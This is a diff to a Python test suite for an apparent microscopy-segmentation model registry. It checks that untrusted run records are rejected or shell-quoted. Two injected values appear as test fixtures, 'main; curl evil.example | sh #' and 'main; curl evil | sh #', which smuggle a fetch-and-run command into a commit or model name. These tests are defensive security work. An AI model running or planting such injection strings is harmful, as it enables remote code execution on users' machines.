@@ -27,6 +27,7 @@ from emseg.tracking.registry import (
     versions,
 )
 from emseg.tracking.standing import standings
+from emseg.training.record import RunRecord
 
 RULE = PromotionSettings(
     metric="v_rand",
@@ -436,11 +437,14 @@ def test_nothing_that_a_version_brings_along_is_run_or_believed(store, evaluated
     tifffile.imwrite(stream, section, photometric="minisblack")
     client = TestClient(make_app(champion_of_registry()))
     answer = client.post("/segment?kind=probability", content=stream.getvalue())
-    np.testing.assert_array_equal(tifffile.imread(io.BytesIO(answer.content)).squeeze(), expected)
+    np.testing.assert_array_equal(tifffile.imread(io.BytesIO(answer.content))[0], expected)
     assert client.post("/invocations", json={"inputs": [[[[0.0]]]]}).status_code == 404
     assert lineage(store, "1")["version"] == 1
-    assert unmet(promote(store, RULE, "2", dry_run=True, force="to load it"))[:1] != ["loads safely"]
+    assert "loads safely" not in unmet(promote(store, RULE, "2", dry_run=True))
     assert not proof.exists()
+
+
+EVIL_NAME = "main; curl evil | sh #"
 
 
 def test_a_changed_record_prints_no_commands_and_a_registered_one_only_quoted_ones(store, evaluated):
@@ -448,18 +452,18 @@ def test_a_changed_record_prints_no_commands_and_a_registered_one_only_quoted_on
 
     record = evaluated()
     evil = "main; curl evil.example | sh #"
-    honest = record.read()["lineage"]
-    record.update(lineage=honest | {"git_commit": evil})
+    before = record.read()
+    honest = before["lineage"]
+    write_checked(record.folder / "record.json", before | {"lineage": honest | {"git_commit": evil}})
     with pytest.raises(InputError, match="git_commit"):
         register_record(store, record)
-    write_checked(
-        record.folder / "record.json",
-        json.loads((record.folder / "record.json").read_text()) | {"model": evil, "lineage": honest},
-    )
-    rewrite(record.folder.parent, model=evil)
+    write_checked(record.folder / "record.json", before)
+    # What is a name all the same may hold anything that a shell obeys.
+    record.update(lineage=honest, model=EVIL_NAME)
+    rewrite(record.folder.parent, model=EVIL_NAME)
     register_record(store, record)
     (command,) = [c for c in lineage(store, "1")["commands"] if c.startswith("emseg train")]
-    assert shlex.split(command)[:3] == ["emseg", "train", evil]
+    assert shlex.split(command)[:3] == ["emseg", "train", EVIL_NAME]
     file = artifacts_of(store, find_version(store, "1")) / "extra_files" / "record.json"
     file.write_text(file.read_text().replace("main;", "dev ;"))
     for what in (lineage, lambda *a: write_settings(*a, Path("again.yaml"))):
